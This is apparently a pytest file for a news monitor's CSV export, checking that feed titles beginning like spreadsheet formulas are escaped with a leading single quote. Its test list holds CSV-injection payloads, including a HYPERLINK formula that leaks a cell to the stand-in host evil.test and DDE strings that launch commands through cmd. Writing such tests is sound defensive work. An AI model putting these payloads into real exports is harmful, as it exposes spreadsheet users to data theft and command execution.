"""CSV exports are opened in spreadsheets: a feed title that starts like a formula must arrive as
text (issue 12, #7; OWASP "CSV injection": prefix such cells with a single quote)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from monitor.cli import app
from monitor.cli.common import csv_cell
from monitor.store import db
from monitor.store.models import Article

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Kim meets Putin")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 after spaces",
]


def test_matches_csv_neutralises_formula_titles(env) -> None:
    with db.session_scope(env.runtime.sessions) as session:
        articles = session.scalars(select(Article).order_by(Article.id)).all()
        for article, title in zip(articles, HOSTILE_TITLES, strict=False):
            article.title = title
    result = CliRunner().invoke(
        app, ["--config", str(env.config_path), "matches", "--format", "csv", "--limit", "100"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    titles = {row["title"] for row in rows}
    for title in HOSTILE_TITLES:
        assert "'" + title in titles, f"{title!r} not neutralised"
    assert "North Korean troops story 7" in titles  # ordinary titles stay as they are
    scores = [float(row["score"]) for row in rows]  # numbers stay numbers
    assert scores
    assert all(0 < s < 1 for s in scores)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("Kim = Putin", "Kim = Putin"),
        ("-", "'-"),
        (-0.25, -0.25),
        (None, None),
        ("", ""),
    ],
)
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written
